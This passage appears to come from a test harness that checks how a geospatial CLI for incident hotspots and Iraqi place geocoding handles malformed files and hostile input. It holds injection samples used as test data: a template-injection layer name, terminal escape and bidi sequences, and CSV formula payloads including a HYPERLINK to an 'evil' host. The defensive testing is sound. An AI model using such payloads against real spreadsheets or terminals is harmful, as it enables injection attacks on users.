    feats = [_pt_feature(r, mp if i == 2 else "point") for i, r in enumerate(rows)]
    return read_check(
        ctx,
        ctx.write("multi.geojson", _geojson_doc(feats)),
        12,
        ["multi.geojson", "multipoint"],
        warn_words=("multipoint", "geometry", "point"),
        need_warning=True,
    )


@case("geo files", "geojson-3d-points", "incidents as 3D points (with elevation)")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [
        _pt_feature(
            r,
            {"type": "Point", "coordinates": [float(r["longitude"]), float(r["latitude"]), 250.0]},
        )
        for r in rows
    ]
    return read_check(
        ctx, ctx.write("z.geojson", _geojson_doc(feats)), 12, ["z.geojson"], valid=True
    )


@case(
    "geo files",
    "geojson-latlon-order",
    "GeoJSON coordinates written [lat, lon] instead of [lon, lat]",
)
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(30)
    feats = [
        _pt_feature(
            r, {"type": "Point", "coordinates": [float(r["latitude"]), float(r["longitude"])]}
        )
        for r in rows
    ]
    path = ctx.write("latlon.geojson", _geojson_doc(feats))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "swap", "order"])
    if first:
        return first
    if features(folder / "hotspots.geojson"):
        return out("silent wrong result", "swapped points clustered")
    return handled("swapped points flagged, not clustered", run.warned("swap"))


@case("geo files", "gpkg-two-layers", "a GeoPackage with two layers (incidents in the second)")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("two.gpkg")
    _points_gdf(5).assign(id=[f"OLD{i}" for i in range(5)]).to_file(path, layer="old_draft")
    _points_gdf(30).to_file(path, layer="incidents")
    ctx.record(path, note="layer old_draft: 5 points; layer incidents: 30 points")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name, "layer", "old_draft"])
    if first:
        return first
    n = len(incidents_out(folder))
    if run.warned("layer"):
        return handled(f"{n} rows read; warned which layer", True)
    return out(
        "silent wrong result" if n != 30 else "handled",
        f"{n} rows read from one layer, no word of the other",
    )


@case("geo files", "gpkg-zero-features", "a GeoPackage layer with no features")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("none.gpkg")
    _points_gdf(3).iloc[:0].to_file(path, layer="incidents")
    ctx.record(path, note="layer incidents with 0 features")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    text = run.text + summary_of(folder)
    return (
        handled("a no-row finding naming the file", run.warned())
        if path.name in text
        else out("vague error", "the output does not name the file")
    )


@case("geo files", "shp-no-prj", "a Shapefile without its .prj")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("pts.shp")
    _points_gdf(30).to_file(path)
    ctx.p("pts.prj").unlink()
    ctx.record(path, note="pts.shp/.shx/.dbf, no .prj (lon/lat degrees)")
    return read_check(
        ctx,
        path,
        30,
        [path.name, "crs", "prj"],
        check=lambda f: None if abs(f.geometry.iloc[0].x - 44.45) < 0.01 else "moved",
    )


@case("geo files", "shp-no-dbf", "a Shapefile without its .dbf")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("pts.shp")
    _points_gdf(30).to_file(path)
    ctx.p("pts.dbf").unlink()
    ctx.record(path, note="pts.shp/.shx/.prj, no .dbf (no attributes: no dates)")
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name, "date", "dbf"]) or out(
        "silent wrong result", "ran without attributes"
    )


@case("geo files", "geojson-no-features", "a FeatureCollection with no features")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("nofeat.geojson", _geojson_doc([]))
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    text = run.text + summary_of(folder)
    return (
        handled("no-row finding", run.warned())
        if path.name in text
        else out("vague error", "file not named")
    )


@case("geo files", "geojson-nan-literal", "a GeoJSON with a NaN literal in a coordinate")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [_pt_feature(r) for r in rows]
    feats[3]["geometry"]["coordinates"][1] = "NAN-HERE"
    text = _geojson_doc(feats).replace('"NAN-HERE"', "NaN")
    return read_check(ctx, ctx.write("nan.geojson", text), 12, ["nan.geojson"], need_warning=True)


@case("geo files", "geojson-single-feature", "a single Feature instead of a FeatureCollection")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("one.geojson", json.dumps(_pt_feature(base_rows(1)[0])))
    return read_check(ctx, path, 1, [path.name], valid=True)


@case("geo files", "geojson-properties-null", "features with 'properties': null")
def _(ctx: Ctx) -> Outcome:
    feats = [{**_pt_feature(r), "properties": None} for r in base_rows(12)]
    path = ctx.write("noprops.geojson", _geojson_doc(feats))
    run, _ = analyze(ctx, path)
    return cli_first(run, [path.name, "date"]) or out("silent wrong result", "ran with no dates")


@case("geo files", "geojson-deep-nesting", "a property nested 100,000 levels deep")
def _(ctx: Ctx) -> Outcome:
    rows = base_rows(12)
    feats = [_pt_feature(r) for r in rows]
    text = _geojson_doc(feats).replace(
        '"notes": "incident 1"', '"notes": ' + "[" * 100_000 + "]" * 100_000, 1
    )
    return read_check(ctx, ctx.write("deep.geojson", text), 12, ["deep.geojson"])


@case("geo files", "kml-file", "a KML file of points")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("pts.kml")
    try:
        _points_gdf(12).to_file(path, driver="KML")
    except Exception as exc:  # the driver may be absent
        raise HarnessError(f"cannot write KML: {exc}") from exc
    ctx.record(path)
    return read_check(ctx, path, 12, [path.name, "date"], valid=True)


@case("geo files", "gpkg-payload-layer", "a GeoPackage whose only layer is named X{{7*7}}Y")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("odd.gpkg")
    _points_gdf(30).to_file(path, layer=J49)
    ctx.record(path, note=f"one layer named {J49}")
    run, folder = analyze(ctx, path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    page = (folder / "briefing_map.html").read_text(encoding="utf-8")
    hit = evaluated_in(page + summary_of(folder))
    return (
        out("security failure", f"{hit} in outputs") if hit else handled("read; nothing evaluated")
    )


# ---------------------------------------------------------------------- control lines
def _bundled_line(side: str):
    from hotspot.boundaries import load_control_lines

    return load_control_lines(side)


def _gaps(ctx: Ctx, *args: object, out_name: str = "gaps") -> tuple[Run, Path]:
    folder = ctx.p(out_name)
    return ctx.cli("gaps", *args, "--out", folder), folder


def _zones_area(folder: Path) -> tuple[int, float]:
    feats = features(folder / "gaps_zones.geojson")
    return len(feats), sum(float(f["properties"].get("area_km2") or 0) for f in feats)


def _reference_gaps(ctx: Ctx) -> tuple[int, float]:
    from hotspot.gaps import find_gaps

    result = find_gaps()
    return len(result.zones), float(result.zones["area_km2"].sum())


@case("geo files", "gaps-federal-alone", "hotspot gaps --federal F without --krg (issue #15)")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("fed.geojson")
    _bundled_line("federal").to_file(path)
    ctx.record(path, note="the bundled federal line")
    run, folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    return (
        handled(f"{n} zones, {area:.0f} km2 (bundled: {ref[0]}, {ref[1]:.0f})")
        if n == ref[0]
        else out(
            "silent wrong result",
            f"{n} zones, {area:.0f} km2; bundled lines give {ref[0]}, {ref[1]:.0f}",
        )
    )


@case("geo files", "gaps-krg-alone", "hotspot gaps --krg K without --federal")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("krg.geojson")
    _bundled_line("krg").to_file(path)
    ctx.record(path, note="the bundled KRG line")
    run, folder = _gaps(ctx, "--krg", path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    return (
        handled(f"{n} zones, {area:.0f} km2")
        if n == ref[0]
        else out("silent wrong result", f"{n} zones vs {ref[0]} with the bundled lines")
    )


@case("geo files", "control-lines-3d", "control lines with Z coordinates (issue #15)")
def _(ctx: Ctx) -> Outcome:
    import shapely

    fed, krg = _bundled_line("federal"), _bundled_line("krg")
    for name, layer in (("fed3d.geojson", fed), ("krg3d.geojson", krg)):
        layer = layer.copy()
        layer.geometry = [shapely.force_3d(g, 120.0) for g in layer.geometry]
        layer.to_file(ctx.p(name))
        ctx.record(ctx.p(name), note="bundled line with z=120")
    run, folder = _gaps(ctx, "--federal", ctx.p("fed3d.geojson"), "--krg", ctx.p("krg3d.geojson"))
    first = cli_first(run, ["fed3d.geojson", "krg3d.geojson", "3d", " z "], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    ok = n == ref[0] and abs(area - ref[1]) < 0.01 * ref[1]
    return (
        handled(f"{n} zones, {area:.0f} km2")
        if ok
        else out(
            "silent wrong result", f"{n} zones, {area:.0f} km2 vs {ref[0]}, {ref[1]:.0f} in 2D"
        )
    )


@case("geo files", "control-areas", "control AREAS whose edges are the bundled lines (issue #15)")
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    fed, krg = _bundled_line("federal"), _bundled_line("krg")
    f = list(fed.geometry.iloc[0].coords)
    k = list(krg.geometry.iloc[0].coords)
    # close each line on the side away from the other: federal to the SW, KRG to the NE
    fed_area = shapely.Polygon([*f, (44.5, 32.0), (41.0, 34.5)])
    krg_area = shapely.Polygon([*k, (47.5, 35.5), (44.0, 38.5)])
    if not (fed_area.is_valid and krg_area.is_valid):
        raise HarnessError("the control areas are not valid polygons")
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[fed_area], crs=4326).to_file(
        ctx.p("fed_area.geojson")
    )
    gpd.GeoDataFrame({"side": ["krg"]}, geometry=[krg_area], crs=4326).to_file(
        ctx.p("krg_area.geojson")
    )
    ctx.record(ctx.p("fed_area.geojson"), note="bundled federal line closed to the south-west")
    ctx.record(ctx.p("krg_area.geojson"), note="bundled KRG line closed to the north-east")
    run, folder = _gaps(
        ctx, "--federal", ctx.p("fed_area.geojson"), "--krg", ctx.p("krg_area.geojson")
    )
    first = cli_first(run, ["fed_area.geojson", "krg_area.geojson", "area", "polygon"], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    ok = abs(area - ref[1]) <= 0.2 * ref[1]
    what = f"areas give {n} zones, {area:.0f} km2; the lines give {ref[0]}, {ref[1]:.0f} km2"
    return handled(what) if ok else out("silent wrong result", what)


@case("geo files", "control-line-empty", "a control-line file with no features")
def _(ctx: Ctx) -> Outcome:
    path = ctx.p("empty_line.geojson")
    _bundled_line("federal").iloc[:0].to_file(path)
    ctx.record(path)
    run, _ = _gaps(ctx, "--federal", path)
    return cli_first(run, [path.name, "federal"]) or out("silent wrong result", "an empty line ran")


@case("geo files", "control-line-points", "a control 'line' made of points")
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    coords = list(_bundled_line("federal").geometry.iloc[0].coords)
    path = ctx.p("points_line.geojson")
    gpd.GeoDataFrame(
        {"side": ["federal"] * len(coords)}, geometry=[shapely.Point(c) for c in coords], crs=4326
    ).to_file(path)
    ctx.record(path)
    run, _ = _gaps(ctx, "--federal", path)
    return cli_first(run, [path.name, "point", "line"]) or out(
        "silent wrong result", "points taken as a line"
    )


@case(
    "geo files", "control-line-utm-with-crs", "the bundled lines reprojected to UTM 38N (with CRS)"
)
def _(ctx: Ctx) -> Outcome:
    _bundled_line("federal").to_crs(32638).to_file(ctx.p("fed_utm.gpkg"))
    _bundled_line("krg").to_crs(32638).to_file(ctx.p("krg_utm.gpkg"))
    ctx.note(
        "inputs: the bundled federal and KRG lines written in EPSG:32638 to fed_utm.gpkg, "
        "krg_utm.gpkg"
    )
    run, folder = _gaps(ctx, "--federal", ctx.p("fed_utm.gpkg"), "--krg", ctx.p("krg_utm.gpkg"))
    first = cli_first(run, ["fed_utm.gpkg"], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    ok = n == ref[0] and abs(area - ref[1]) < 0.01 * ref[1]
    return (
        handled(f"{n} zones, {area:.0f} km2")
        if ok
        else out("silent wrong result", f"{n}, {area:.0f} vs {ref}")
    )


@case("geo files", "control-line-utm-no-crs", "the federal line in UTM metres, no CRS")
def _(ctx: Ctx) -> Outcome:
    frame = _bundled_line("federal").to_crs(32638)
    g = frame.geometry.iloc[0]
    doc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"side": "federal"},
                "geometry": {"type": "LineString", "coordinates": [list(c) for c in g.coords]},
            }
        ],
    }
    path = ctx.write("fed_m.geojson", json.dumps(doc))
    run, _ = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name])
    if (
        first
        and first.category == "clear error"
        and not re.search(r"project|metre|meter|utm|crs|degree", run.stderr, re.I)
    ):
        return out("vague error", f"refused without a projected hint: {first.reason}")
    return first or out("silent wrong result", "metres read as degrees")


@case("geo files", "control-bowtie", "a self-intersecting (bow-tie) control area")
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    bow = shapely.Polygon([(43.0, 35.0), (44.0, 36.0), (44.0, 35.0), (43.0, 36.0)])
    path = ctx.p("bowtie.geojson")
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[bow], crs=4326).to_file(path)
    ctx.record(path)
    run, _ = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name, "invalid", "self-inter"])
    if first:
        return first
    return (
        handled("ran (repaired)", run.warned())
        if run.warned()
        else out("silent wrong result", "an invalid polygon used without a word")
    )


@case("geo files", "control-line-france", "a control line in France")
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    path = ctx.p("paris.geojson")
    gpd.GeoDataFrame(
        {"side": ["federal"]}, geometry=[shapely.LineString([(2.2, 48.8), (2.5, 48.9)])], crs=4326
    ).to_file(path)
    ctx.record(path)
    run, _folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name, "iraq", "outside"])
    if first:
        return first
    return (
        handled("ran", True)
        if run.warned()
        else out("silent wrong result", "a line in France used silently")
    )


@case("geo files", "control-line-csv", "--federal given a CSV")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("fed.csv", csv_text(base_rows(3)))
    run, _ = _gaps(ctx, "--federal", path)
    return cli_first(run, [path.name]) or out("silent wrong result", "a CSV taken as a line")


@case("geo files", "control-line-degenerate", "a control line of one repeated point")
def _(ctx: Ctx) -> Outcome:
    doc = {
        "type": "FeatureCollection",
        "features": [
            {
                "type": "Feature",
                "properties": {"side": "federal"},
                "geometry": {"type": "LineString", "coordinates": [[44.0, 35.0], [44.0, 35.0]]},
            }
        ],
    }
    path = ctx.write("dot.geojson", json.dumps(doc))
    run, _ = _gaps(ctx, "--federal", path)
    return cli_first(run, [path.name, "federal: feature"]) or out(
        "silent wrong result", "a zero-length line used"
    )


@case("geo files", "control-multilinestring", "a control line split into a MultiLineString")
def _(ctx: Ctx) -> Outcome:
    import geopandas as gpd
    import shapely

    coords = list(_bundled_line("federal").geometry.iloc[0].coords)
    half = len(coords) // 2
    multi = shapely.MultiLineString([coords[: half + 1], coords[half:]])
    path = ctx.p("fed_multi.geojson")
    gpd.GeoDataFrame({"side": ["federal"]}, geometry=[multi], crs=4326).to_file(path)
    ctx.record(path)
    run, folder = _gaps(ctx, "--federal", path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    n, area = _zones_area(folder)
    ref = _reference_gaps(ctx)
    ok = abs(area - ref[1]) < 0.01 * ref[1]
    return (
        handled(f"{n} zones, {area:.0f} km2")
        if ok
        else out("silent wrong result", f"{area:.0f} vs {ref[1]:.0f} km2")
    )


# ====================================================================== geocoding
def _geocode(ctx: Ctx, *names: str, fmt: str = "table", extra: tuple = ()) -> Run:
    return ctx.cli("geocode", "--format", fmt, *extra, "--", *names)


def _geocode_rows(run: Run) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(run.stdout)))


def _terminal_case(cid: str, fmt: str) -> None:
    @case(
        "geocoding", cid, f"names with ANSI/OSC escapes, backspaces and CRs: geocode --format {fmt}"
    )
    def _(ctx: Ctx) -> Outcome:
        run = _geocode(ctx, *ANSI_PAYLOADS, "Kirkuk", fmt=fmt)
        first = cli_first(run, [], valid=True)
        if first:
            return first
        leak = terminal_leak(run.stdout, run.stderr)
        if leak:
            return out("security failure", f"control sequence reaches the terminal: {leak}")
        if fmt == "geojson":
            queries = [f["properties"]["query"] for f in json.loads(run.stdout)["features"]]
            if queries != [*ANSI_PAYLOADS, "Kirkuk"]:
                return out("silent wrong result", "the JSON does not keep the names intact")
        return handled("no control sequence printed")


for _fmt in ("table", "csv", "geojson"):
    _terminal_case(f"geocode-ansi-{_fmt}", _fmt)


@case(
    "geocoding",
    "geocode-csv-formulas",
    "geocode --format csv with =HYPERLINK, @SUM, +, - names (issue #15)",
)
def _(ctx: Ctx) -> Outcome:
    run = _geocode(ctx, *FORMULA_PAYLOADS, "-3.5", "Kirkuk", fmt="csv")
    first = cli_first(run, [], valid=True)
    if first:
        return first
    bad = formula_cells(run.stdout)
    if bad:
        return out("security failure", f"live formula cells: {bad[:3]}")
    rows = _geocode_rows(run)
    if rows[-2]["query"] not in ("-3.5", "'-3.5"):
        return out("silent wrong result", f"number cell changed: {rows[-2]['query']!r}")
    return handled("formula cells prefixed with '")


@case("geocoding", "geocode-bidi-override", "a name with a right-to-left override (U+202E)")
def _(ctx: Ctx) -> Outcome:
    run = _geocode(ctx, "Kirk\u202euk", "\u2067Mosul\u2069", fmt="table")
    first = cli_first(run, [], valid=True)
    if first:
        return first
    leak = terminal_leak(run.stdout, run.stderr)
    return (
        out("security failure", f"bidi control printed: {leak}")
        if leak
        else handled("no bidi control printed")
    )


def _arabic_case(cid: str, name: str, title: str, expect: str | None) -> None:
    """expect: the gazetteer name it must resolve to, or None (resolved to nothing wrong)."""

    @case("geocoding", cid, title)
    def _(ctx: Ctx) -> Outcome:
        from hotspot.geocode import geocode

        call = ctx.api(geocode, [name], shown=f"hotspot.geocode([{name!r}])")
        if call.exc is not None:
            return api_error(call, [], valid=True)
        row = call.value.iloc[0]
        got = row["name"] if row["status"] == "resolved" else None
        if expect is None:
            return (
                handled(f"status {row['status']}")
                if got is None
                else out("silent wrong result", f"{name!r} resolved to {got!r}")
            )
        if got == expect:
            return handled(f"resolved to {got}")
        if got is None:
            return handled(f"not resolved ({row['status']}), no wrong place")
        return out("silent wrong result", f"{name!r} resolved to {got!r}, expected {expect!r}")


_arabic_case("arabic-plain", "كركوك", "Arabic 'Kirkuk'", "Kirkuk")
_arabic_case("arabic-tatweel", "كـــركوك", "Arabic Kirkuk with tatweel (kashida)", "Kirkuk")
_arabic_case("arabic-zwnj", "كر\u200cكوك", "Arabic Kirkuk with a zero-width non-joiner", "Kirkuk")
_arabic_case("arabic-diacritics", "كَرْكُوك", "Arabic Kirkuk with vowel marks", "Kirkuk")
_arabic_case("latin-zero-width", "Kir\u200bkuk", "Latin Kirkuk with a zero-width space", "Kirkuk")
_arabic_case("latin-homoglyph", "Кirkuk", "Kirkuk with a Cyrillic K", "Kirkuk")
_arabic_case("numbers-as-name", "35.1,44.4", "a coordinate pair given as a name", None)
_arabic_case("digits-as-name", "12345", "digits given as a name", None)
_arabic_case("emoji-name", "🔥🔥", "emoji given as a name", None)


@case("geocoding", "geocode-empty-names", "empty, blank and NaN names through the API")
def _(ctx: Ctx) -> Outcome:
    from hotspot.geocode import geocode

    call = ctx.api(geocode, ["", "   ", None, float("nan"), 5, "Kirkuk"])
    if call.exc is not None:
        return api_error(call, ["name", "row", "0"])
    frame = call.value
    if len(frame) != 6:
        return out("silent row loss", f"6 names in, {len(frame)} out")
    resolved = frame["status"].tolist()
    if any(s == "resolved" for s in resolved[:5]):
        return out("silent wrong result", f"statuses {resolved}")
    return handled(f"statuses {resolved}")


@case("geocoding", "geocode-huge-name", "a 200,000-character name", timeout=90)
def _(ctx: Ctx) -> Outcome:
    from hotspot.geocode import geocode

    call = ctx.api(geocode, ["Kirkuk " * 30_000], shown="hotspot.geocode(['Kirkuk ' * 30000])")
    if call.exc is not None:
        return api_error(call, ["name", "long", "characters"])
    return handled(f"{call.value['status'].iloc[0]} in {call.seconds:.1f} s")


@case("geocoding", "geocode-nul-name", "a name with a NUL byte, on the command line and in a file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("names.txt", "Kirkuk\nMos\x00ul\nErbil\n")
    run = ctx.cli("geocode", "--file", path)
    first = cli_first(run, [path.name, "line 2"])
    if first:
        return first
    leak = terminal_leak(run.stdout, run.stderr)
    if leak:
        return out("security failure", f"NUL printed: {leak}")
    return handled("3 names, NUL not printed", run.warned())


@case("geocoding", "geocode-file-latin1", "geocode --file with a Latin-1 file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("names.txt", "Kirkuk\nCaf\xe9\n".encode("latin-1"))
    run = ctx.cli("geocode", "--file", path)
    return cli_first(run, [path.name]) or out("silent wrong result", "read")


@case("geocoding", "geocode-file-missing-column", "geocode --file names.csv --column nope")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("names.csv", "town\nKirkuk\n")
    run = ctx.cli("geocode", "--file", path, "--column", "nope")
    return cli_first(run, [path.name, "nope"]) or out("silent wrong result", "ran")


@case("geocoding", "geocode-file-crlf-bom", "geocode --file with BOM and CRLF")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("names.txt", "\ufeffKirkuk\r\nMosul\r\n\r\n")
    run = ctx.cli("geocode", "--file", path, "--format", "csv")
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    rows = _geocode_rows(run)
    got = [(r["query"], r["status"]) for r in rows]
    return (
        handled(f"{got}")
        if got == [("Kirkuk", "resolved"), ("Mosul", "resolved")]
        else out("silent wrong result", f"{got}")
    )


@case("geocoding", "near-not-numbers", "--near 'abc,def'")
def _(ctx: Ctx) -> Outcome:
    run = ctx.cli("geocode", "--near", "abc,def", "Bashir")
    first = cli_first(run, ["abc,def", "--near"])
    if first:
        return first
    if run.warned("near", "abc"):
        return handled("--near read as a place name, with a warning", True)
    return out("silent wrong result", "an unreadable --near ignored without a word")


@case("geocoding", "near-out-of-range", "--near 91,200 (not a position on Earth)")
def _(ctx: Ctx) -> Outcome:
    run = ctx.cli("geocode", "--near", "91,200", "Bashir")
    return cli_first(run, ["91", "--near", "near", "latitude"]) or out(
        "silent wrong result", "an impossible --near used"
    )


@case("geocoding", "within-unknown", "--within Atlantis")
def _(ctx: Ctx) -> Outcome:
    run = ctx.cli("geocode", "--within", "Atlantis", "Kirkuk")
    return cli_first(run, ["Atlantis"]) or out("silent wrong result", "ignored")


def _gazetteer_file(ctx: Ctx, name: str, rows: list[tuple]) -> Path:
    text = "name,lat,lon\n" + "".join(",".join(csv_quote(v) for v in r) + "\n" for r in rows)
    return ctx.write(name, text)


def csv_quote(value: object) -> str:
    buf = io.StringIO()
    csv.writer(buf, lineterminator="").writerow([value])
    return buf.getvalue()


@case(
    "geocoding",
    "gazetteer-formula-names",
    "a user gazetteer whose names are formulas; geocode --format csv",
)
def _(ctx: Ctx) -> Outcome:
    names = ['=HYPERLINK("http://evil","x")', "@SUM(1)", "+cmd"]
    path = _gazetteer_file(
        ctx, "places.csv", [(n, 35.2 + i / 100, 44.1) for i, n in enumerate(names)]
    )
    run = ctx.cli("geocode", "--gazetteer", path, "--format", "csv", "--", *names)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    bad = formula_cells(run.stdout)
    return (
        out("security failure", f"live formula cells: {bad[:3]}") if bad else handled("neutralised")
    )


@case("geocoding", "gazetteer-text-lat", "a user gazetteer with a text latitude in row 3")
def _(ctx: Ctx) -> Outcome:
    path = _gazetteer_file(
        ctx, "bad.csv", [("Alpha", 35.2, 44.1), ("Beta", "north", 44.2), ("Gamma", 35.3, 44.3)]
    )
    run = ctx.cli("geocode", "--gazetteer", path, "Alpha")
    first = cli_first(run, [path.name, "row", "line", "Beta"])
    if first:
        return first
    if run.warned("Beta", "row", "line"):
        return handled("bad row skipped with a warning", True)
    return out("silent wrong result", "a bad gazetteer row accepted or skipped silently")


@case("geocoding", "gazetteer-out-of-range", "a user gazetteer with latitude 135")
def _(ctx: Ctx) -> Outcome:
    path = _gazetteer_file(ctx, "far.csv", [("Alpha", 135.0, 44.1), ("Beta", 35.2, 44.2)])
    run = ctx.cli("geocode", "--gazetteer", path, "--format", "csv", "Alpha")
    first = cli_first(run, [path.name, "Alpha", "135", "row", "line"])
    if first:
        return first
    rows = _geocode_rows(run)
    if rows and rows[0]["status"] == "resolved":
        return out("silent wrong result", f"resolved to latitude {rows[0]['lat']}")
    return handled("row not used", run.warned())


@case("geocoding", "gazetteer-zero-zero", "a user gazetteer with a place at 0,0")
def _(ctx: Ctx) -> Outcome:
    path = _gazetteer_file(ctx, "zero.csv", [("Tall Qwerty", 0, 0)])
    run = ctx.cli("geocode", "--gazetteer", path, "--format", "csv", "Tall Qwerty")
    first = cli_first(run, [path.name, "Tall Qwerty", "0", "row", "line"])
    if first:
        return first
    rows = _geocode_rows(run)
    if rows and rows[0]["status"] == "resolved":
        return out(
            "silent wrong result" if not run.warned() else "warning + handled",
            f"resolved to ({rows[0]['lat']}, {rows[0]['lon']})",
        )
    return handled("placeholder place not used", run.warned())


@case("geocoding", "gazetteer-duplicate-ids", "a gazetteer-schema file repeating a bundled id")
def _(ctx: Ctx) -> Outcome:
    from hotspot.gazetteer import COLUMNS

    row = {
        "id": "gn-94787",
        "name": "Not Kirkuk",
        "feature_type": "settlement",
        "lat": 30.5,
        "lon": 47.8,
        "governorate": "Basra",
        "district": "Basra",
        "aliases": "",
        "source": "audit",
        "precision_km": 1,
    }
    path = ctx.write("dupid.csv", csv_text([{k: str(v) for k, v in row.items()}], list(COLUMNS)))
    run = ctx.cli("geocode", "--gazetteer", path, "--format", "csv", "Kirkuk")
    first = cli_first(run, [path.name, "gn-94787", "id"])
    if first:
        return first
    rows = _geocode_rows(run)
    lat = float(rows[0]["lat"] or "nan")
    if abs(lat - 35.468) > 0.1:
        return out("silent wrong result", f"Kirkuk now resolves to latitude {lat}")
    return handled("bundled place kept", run.warned())


@case("geocoding", "gazetteer-bom-crlf", "a user location list with BOM and CRLF")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write(
        "dtm.csv", "\ufeffLocation,Latitude,Longitude\r\nTall Zzyzx Checkpoint,35.2,43.9\r\n"
    )
    run = ctx.cli("geocode", "--gazetteer", path, "--format", "csv", "Tall Zzyzx Checkpoint")
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    rows = _geocode_rows(run)
    return (
        handled("resolved")
        if rows and rows[0]["status"] == "resolved"
        else out("silent wrong result", f"{rows[:1]}")
    )


@case("geocoding", "extract-binary", "extract on a binary file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("blob.txt", bytes(range(256)) * 100)
    run = ctx.cli("extract", path)
    return cli_first(run, [path.name]) or out("silent wrong result", "binary read as text")


@case("geocoding", "extract-empty", "extract on an empty file")
def _(ctx: Ctx) -> Outcome:
    path = ctx.write("empty.txt", "")
    run = ctx.cli("extract", path)
    first = cli_first(run, [path.name], valid=True)
    return first or handled("no mention, exit 0")


@case("geocoding", "extract-payloads", "extract on text full of escapes and payloads")
def _(ctx: Ctx) -> Outcome:
    text = " ".join([*ANSI_PAYLOADS, *HTML_PAYLOADS, J49, "Clashes in Kirkuk and Daquq."])
    path = ctx.write("report.txt", text)
    run = ctx.cli("extract", path)
    first = cli_first(run, [path.name], valid=True)
    if first:
        return first
    leak = terminal_leak(run.stdout, run.stderr)
    if leak:
        return out("security failure", f"control sequence printed: {leak}")
    return (
        handled("Kirkuk found" if "Kirkuk" in run.stdout else "ran")
        if "Kirkuk" in run.stdout
        else out("silent wrong result", "Kirkuk not found")
    )


def _dense_text(megabytes: float) -> str:
    names = [
        "Kirkuk",
        "Daquq",
        "Hawija",
        "Tuz Khurmatu",
        "Makhmur",
        "Sinjar",
        "Tal Afar",
        "Khanaqin",
    ]
    piece = " ".join(f"Clashes near {names[i % len(names)]}." for i in range(40)) + "\n"
    return piece * max(1, int(megabytes * 1e6 / len(piece)))


_EXTRACT_API = (
    "import resource, sys\n"
    "from hotspot.extract import extract_places\n"
    "found = extract_places(open(sys.argv[1], encoding='utf-8').read())\n"
    "print(len(found))\n"
)


def _extract_rss_case(cid: str, megabytes: float, heavy: bool, *, api: bool) -> None:
    how = "extract_places() (the API)" if api else "hotspot extract (the CLI, table output)"

    @case(
        "load",
        cid,
        f"{how} on {megabytes:g} MB of dense place names: peak RSS per mention (issue #15)",
        heavy=heavy,
        timeout=900 if heavy else 300,
    )
    def _(ctx: Ctx) -> Outcome:
        small = ctx.write(
            "small.txt",
            _dense_text(megabytes / 10),
            note=f"{megabytes / 10:g} MB of 'Clashes near <place>.'",
        )
        big = ctx.write(
            "big.txt", _dense_text(megabytes), note=f"{megabytes:g} MB of 'Clashes near <place>.'"
        )
        runs = []
        for path in (small, big):
            if api:
                run = ctx.py(_EXTRACT_API, path, timeout=600 if heavy else 240)
            else:
                run = ctx.cli("extract", "--format", "table", path, timeout=600 if heavy else 240)
            first = cli_first(run, [path.name], valid=True)
            if first:
                return first
            mentions = int(run.stdout.strip()) if api else max(0, len(run.stdout.splitlines()) - 1)
            runs.append((run.maxrss_mb, mentions, run.seconds))
        (rss_s, m_s, _), (rss_b, m_b, sec_b) = runs
        per_mention = (rss_b - rss_s) * 1e6 / max(1, m_b - m_s)
        what = (
            f"{m_b:,} mentions: peak RSS {rss_b:.0f} MB ({per_mention:.0f} B per extra mention; "
            f"{m_s:,} mentions: {rss_s:.0f} MB), {sec_b:.0f} s"
        )
        # Budget: 1.5 KB per mention, half the 3 KB the issue measured before the fix
        # (a result row itself holds about 200 B).
        return (
            handled(what)
            if per_mention < 1500
            else out("timeout", f"memory budget (1.5 KB per mention) exceeded: {what}")
        )


